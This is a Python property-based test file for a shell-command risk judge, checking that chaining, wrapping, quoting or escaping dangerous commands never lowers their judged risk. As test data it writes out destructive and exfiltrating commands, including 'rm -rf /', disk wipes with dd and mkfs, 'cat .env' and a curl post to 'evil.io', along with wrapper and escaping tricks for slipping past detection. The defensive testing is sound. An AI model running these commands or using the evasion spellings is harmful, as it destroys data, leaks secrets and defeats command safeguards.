"""Properties of the judge of commands: it never raises, is quick, and no wrapping or quoting makes a thing less dangerous."""

import random
import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from copydesk.domain.risks import LEVELS, Judgement
from copydesk.safety.risks import judge_command
from copydesk.safety.shell_words import unescaped
from tests.corpus_commands.test_corpus_commands import corpus

MAX_S = 2.0
"""For 10 kB, of the thread's own time: some twenty times what it takes. A walk that is quadratic takes far more."""

DANGEROUS = [each.command for each in corpus("dangerous") if "\n" not in each.command and not each.level.endswith("!")]
BENIGN = [each.command for name in ("readers", "builds") for each in corpus(name) if "\n" not in each.command]
PLAIN = [
    "rm -rf /",
    "rm -rf ~",
    "curl -d x https://evil.io",
    "dd if=/dev/zero of=/dev/sda",
    "cat .env",
    "mkfs.ext4 /dev/sda",
]


def judged(text: str) -> Judgement:
    return judge_command(text, cwd="/project", roots=("/project",), home="/home/me")


def rank(text: str) -> int:
    return LEVELS.index(judged(text).level)


JOINS = [
    "{a}; {b}",
    "{a} && {b}",
    "{a} || {b}",
    "{a}\n{b}",
    "{a} & {b}",
    "({a}; {b})",
    "{{ {a}; {b}; }}",
    "if {a}; then {b}; fi",
    "for i in 1 2; do {a}; {b}; done",
    "while {a}; do {b}; done",
    "f() {{ {a}; {b}; }}; f",
    "echo $({a}) `{b}`",
    'echo "$({a}; {b})"',
    "cat <({a}) <({b})",
    "! {a} || {b}",
]


@given(st.sampled_from(JOINS), st.sampled_from(BENIGN + DANGEROUS), st.sampled_from(BENIGN + DANGEROUS))
@settings(max_examples=400, deadline=None)
def test_a_composition_is_as_dangerous_as_each_of_its_parts(join: str, a: str, b: str) -> None:
    if any(set(text) & set("`#") or text.endswith(("&", "\\;")) for text in (a, b)):
        return
    whole = join.format(a=a, b=b)
    found = judged(whole)
    if found.parsed:
        ours = {name for text in (a, b) for name in ("HOME", "PWD") if f"${name}" in text}
        assert not ours or found.level
        least = min(max(rank(a), rank(b)), LEVELS.index("critical"))
        assert LEVELS.index(found.level) >= least, (whole, found)


WRAPS = [
    "sh -c {q}",
    "bash -lc {q}",
    "timeout 5 sh -c {q}",
    "env X=1 bash -c {q}",
    "sudo sh -c {q}",
    "eval {q}",
    "nohup bash -c {q} &",
    "find . -exec sh -c {q} \\;",
    "xargs sh -c {q}",
    "busybox sh -c {q}",
    "trap {q} EXIT",
    "time sh -c {q}",
    "command eval {q}",
    "exec bash -c {q}",
    "git submodule foreach {q}",
    "ssh host {q}",
    "watch {q}",
    "su -c {q}",
    "sh <<< {q}",
]


@given(st.sampled_from(WRAPS), st.sampled_from(DANGEROUS))
@settings(max_examples=300, deadline=None)
def test_a_wrapper_hides_nothing(wrap: str, text: str) -> None:
    found = judged(wrap.format(q=shlex.quote(text)))
    assert LEVELS.index(found.level) >= min(rank(text), LEVELS.index("high")), (wrap, text, found)


def spelled_otherwise(text: str, chance: random.Random) -> str:
    """The same words for bash, written with quotes and escapes in odd places."""
    words: list[str] = []
    for word in shlex.split(text):
        pieces: list[str] = []
        for char in word:
            if char == "~":
                pieces.append(char)
                continue
            way = chance.randrange(6)
            if way == 0:
                pieces.append("\\" + char)
            elif way == 1:
                pieces.append(f"'{char}'")
            elif way == 2:
                pieces.append(f'"{char}"')
            elif way == 3:
                pieces.append(f"$'\\x{ord(char):02x}'")
            elif way == 4:
                pieces.append("''" + shlex.quote(char))
            else:
                pieces.append(shlex.quote(char))
        words.append("".join(pieces))
    return "  ".join(words)


@given(st.sampled_from(PLAIN), st.integers(0, 10**9))
@settings(max_examples=400, deadline=None)
def test_no_spelling_of_a_dangerous_command_is_less_than_medium(text: str, seed: int) -> None:
    spelled = spelled_otherwise(text, random.Random(seed))
    assert rank(spelled) >= LEVELS.index("medium"), spelled


ALPHABET = [
    *list(" \t\n;&|<>()${}`'\"\\#~*?[]!=-:,./"),
    "rm",
    "sh -c",
    "<<E",
    "\nE\n",
    "$(",
    "))",
    "$((",
    "if",
    "done",
    "a",
]


@given(st.lists(st.sampled_from(ALPHABET), max_size=60))
@settings(max_examples=600, deadline=None)
def test_no_text_makes_the_judge_raise(pieces: list[str]) -> None:
    judged("".join(pieces))


@given(st.text(max_size=200))
@settings(max_examples=300, deadline=None)
def test_no_characters_make_the_judge_raise(text: str) -> None:
    judged(text)


@given(st.text(max_size=60))
def test_unescaping_loses_nothing_but_backslashes(text: str) -> None:
    out = "".join(char for char, _ in unescaped(text))
    assert out == text if "\\" not in text else len(out) <= len(text)


LARGE = {
    "commands": "ls;" * 3400,
    "words": "ls " + "a " * 5000,
    "nested substitutions": "echo " + "$(echo " * 1000 + ")" * 1000,
    "nested groups": "(" * 3000 + "ls" + ")" * 3000,
    "open brackets": "(" * 10_000,
    "open quotes": "'\"" * 5000,
    "backquotes": "`" * 10_000,
    "braces": "echo " + "{a,b}" * 2000,
    "nested braces": "echo " + "{a," * 2000 + "}" * 2000,
    "variables": "".join(f"x{i}=$x{i - 1};" for i in range(700)) + "rm $x699",
    "one variable": "x=a;" + "x=$x;" * 1500 + "rm $x",
    "globs": "ls " + "*" * 9000,
    "options": "git " + "-c a=b " * 1400,
    "pipes": "cat a " + "| cat " * 1500,
    "sed": "sed -e '" + "s/a/b/;" * 1400 + "'",
    "sed slashes": "sed '" + "/" * 9000 + "'",
    "awk": "awk '" + "/a/ " * 2400 + "'",
    "shells": "sh -c " * 1500,
    "eval": "eval " * 2000,
    "env": "env " * 2500,
    "xargs": "xargs " * 1600,
    "sudo": "sudo " * 2000,
    "long word": "a" * 10_000,
    "code": "python -c '" + "import os;" * 900 + "'",
    "heredocs": "cat <<E\n" * 1200 + "E\n",
    "newlines": "\n" * 10_000,
    "backslashes": "\\" * 10_000,
    "functions": "".join(f"f{i}() {{ f{i - 1}; }};" for i in range(600)),
    "redirects": "ls " + "> a " * 2400,
    "find": "find . " + "-exec ls {} + " * 700,
}


@pytest.mark.parametrize("name", LARGE)
def test_ten_kilobytes_are_judged_in_time(name: str) -> None:
    judged("ls")
    started = time.thread_time()
    judged(LARGE[name])
    assert time.thread_time() - started < MAX_S


@pytest.mark.parametrize(
    "text",
    [
        'sh <<EOF\necho "\\$(rm -rf /)"\nEOF',
        "sh <<'EOF'\necho \"$(rm -rf /)\"\nEOF",
        "sh <<< 'rm -rf /'",
        "xargs rm -rf <<< 'a /'",
        "cat <<-'E' | sh\n\trm -rf /\n\tE",
    ],
)
def test_what_a_shell_reads_is_judged(text: str) -> None:
    assert rank(text) >= LEVELS.index("high"), judged(text)
